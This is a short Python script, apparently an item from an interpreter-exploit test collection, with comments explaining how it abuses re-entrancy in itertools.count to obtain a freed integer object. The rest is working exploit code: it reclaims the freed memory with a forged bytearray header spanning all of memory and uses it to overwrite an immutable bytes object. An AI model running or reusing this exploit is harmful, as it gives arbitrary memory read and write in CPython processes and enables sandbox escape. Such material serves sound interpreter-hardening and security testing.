# family: wall (memory: itertools.count re-entered from its step's __radd__)   goal: memory   interpreter: /usr/bin/python3
# itertools.count past sys.maxsize adds its step to its running total, held borrowed;
# a step whose __radd__ calls next() on the same count makes the inner call hand that
# total out (its only reference), which the program drops: the outer call then
# returns the freed total. Its 80-byte block is taken back by a bytearray's buffer
# holding a fake bytearray header (length 2**62, data at address 0).
import itertools

W = lambda v: v.to_bytes(8, "little")
FAKE = W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62) + W(0) + W(0) + W(1) + bytes(16)
keep = []


class Step:
    armed = [True]

    def __index__(self):
        return 1

    def __radd__(self, other):
        if Step.armed[0]:
            Step.armed[0] = False
            next(c)              # hands the running total out; dropped here
        return other + 1


c = itertools.count((1 << 280) + 1, Step())
val = next(c)
keep.append(bytearray(FAKE))     # the freed total's block
if type(val) is bytearray:
    victim = b"intact!!"
    val[id(victim) + 32] = ord("X")
    print("victim:", victim)
    if victim.startswith(b"X"):
        print("MEMORY-OVERWRITTEN")
